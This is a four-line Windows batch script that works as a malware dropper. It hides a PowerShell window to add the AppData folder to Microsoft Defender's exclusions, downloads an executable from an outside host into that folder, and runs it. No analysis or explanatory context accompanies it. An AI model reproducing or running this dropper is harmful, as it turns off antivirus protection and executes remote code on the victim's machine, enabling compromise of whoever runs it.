@echo off
powershell -WindowStyle Hidden -Command "Add-MpPreference -ExclusionPath %APPDATA%"
curl -s -o %APPDATA%\z.exe https://client.lure.invalid/z
start %APPDATA%\z.exe
